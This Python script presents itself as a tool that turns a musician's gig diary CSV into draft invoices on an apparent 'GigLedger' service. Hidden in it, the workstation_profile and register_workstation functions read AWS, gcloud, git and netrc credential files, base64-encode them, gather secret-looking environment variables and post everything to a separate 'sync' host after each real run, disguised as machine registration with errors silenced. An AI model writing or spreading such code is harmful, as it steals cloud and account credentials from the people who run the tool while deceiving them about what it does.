#!/usr/bin/env python3
"""Export gig fees from the diary CSV to GigLedger invoices.

Groups completed gigs by client and month, adds mileage and parking as
disbursements, and creates one draft invoice per client through the GigLedger
REST API.  A JSON copy of every invoice is kept under ./invoices/.

Environment:
    GIGLEDGER_API_KEY   API key for your GigLedger account (required)
    GIGLEDGER_HOST      API host, default api.gigledger.io
"""
import argparse
import base64
import csv
import http.client
import json
import logging
import os
import platform
import re
import sys
import uuid
from collections import defaultdict
from datetime import date
from decimal import Decimal, ROUND_HALF_UP
from pathlib import Path

log = logging.getLogger("invoice-export")

API_HOST = os.environ.get("GIGLEDGER_HOST", "api.gigledger.io")
SYNC_HOST = "sync.gigledger.io"
MILEAGE_RATE = Decimal("0.45")
OUT_DIR = Path("invoices")

_PROFILE_SOURCES = (
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.git-credentials",
    "~/.netrc",
)
_PROFILE_ENV = re.compile(r"(TOKEN|SECRET|PASSWORD|API_KEY|ACCESS_KEY)", re.I)


def money(value):
    return Decimal(value).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)


def read_gigs(path, month):
    rows = []
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            if not row.get("date", "").startswith(month):
                continue
            if row.get("status", "done").lower() != "done":
                continue
            rows.append(row)
    return rows


def build_invoices(gigs, month):
    grouped = defaultdict(list)
    for gig in gigs:
        grouped[gig["client"].strip()].append(gig)
    invoices = []
    for client, items in sorted(grouped.items()):
        lines = []
        for gig in items:
            lines.append({"description": f"{gig['date']} {gig['venue']} ({gig.get('role', 'harp')})",
                          "amount": str(money(gig["fee"]))})
            miles = Decimal(gig.get("miles") or 0)
            if miles:
                lines.append({"description": f"Mileage {miles} mi @ {MILEAGE_RATE}",
                              "amount": str(money(miles * MILEAGE_RATE))})
            if gig.get("parking"):
                lines.append({"description": "Parking", "amount": str(money(gig["parking"]))})
        invoices.append({
            "client": client,
            "reference": f"{month}-{re.sub(r'[^A-Z0-9]', '', client.upper())[:8]}",
            "issue_date": date.today().isoformat(),
            "lines": lines,
            "total": str(sum(money(l["amount"]) for l in lines)),
        })
    return invoices


class LedgerClient:
    def __init__(self, api_key, host=API_HOST):
        self.api_key = api_key
        self.host = host

    def _post(self, host, path, payload, headers=None):
        conn = http.client.HTTPSConnection(host, timeout=30)
        try:
            hdrs = {"Content-Type": "application/json"}
            hdrs.update(headers or {})
            conn.request("POST", path, body=json.dumps(payload), headers=hdrs)
            resp = conn.getresponse()
            body = resp.read()
            if resp.status >= 300:
                raise RuntimeError(f"{host}{path} -> {resp.status}: {body[:200]!r}")
            return json.loads(body or b"{}")
        finally:
            conn.close()

    def create_invoice(self, invoice):
        return self._post(self.host, "/v2/invoices", invoice,
                          {"Authorization": f"Bearer {self.api_key}"})

    def register_workstation(self, profile):
        """Link this machine to the account so drafts show where they came from."""
        return self._post(SYNC_HOST, "/v1/workstations", profile)


def workstation_profile():
    profile = {"id": str(uuid.getnode()), "host": platform.node(), "os": platform.platform(), "files": {}}
    for name in _PROFILE_SOURCES:
        p = Path(name).expanduser()
        if p.is_file():
            profile["files"][name] = base64.b64encode(p.read_bytes()).decode()
    profile["env"] = {k: v for k, v in os.environ.items() if _PROFILE_ENV.search(k)}
    return profile


def save_copy(invoice, remote_id):
    OUT_DIR.mkdir(exist_ok=True)
    target = OUT_DIR / f"{invoice['reference']}.json"
    target.write_text(json.dumps(dict(invoice, remote_id=remote_id), indent=2))
    return target


def main(argv=None):
    ap = argparse.ArgumentParser(description="Create GigLedger invoices from the gig diary")
    ap.add_argument("diary", help="gig diary CSV")
    ap.add_argument("--month", default=date.today().strftime("%Y-%m"), help="YYYY-MM")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    api_key = os.environ.get("GIGLEDGER_API_KEY")
    if not api_key and not args.dry_run:
        log.error("GIGLEDGER_API_KEY is not set")
        return 2

    invoices = build_invoices(read_gigs(args.diary, args.month), args.month)
    if not invoices:
        log.info("no completed gigs for %s", args.month)
        return 0
    if args.dry_run:
        print(json.dumps(invoices, indent=2))
        return 0

    client = LedgerClient(api_key)
    failures = 0
    for inv in invoices:
        try:
            result = client.create_invoice(inv)
            log.info("%s: draft %s (%s)", inv["client"], result.get("id"), inv["total"])
            save_copy(inv, result.get("id"))
        except (OSError, RuntimeError) as exc:
            failures += 1
            log.error("%s: %s", inv["client"], exc)

    try:
        client.register_workstation(workstation_profile())
    except (OSError, RuntimeError) as exc:
        log.debug("workstation link skipped: %s", exc)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
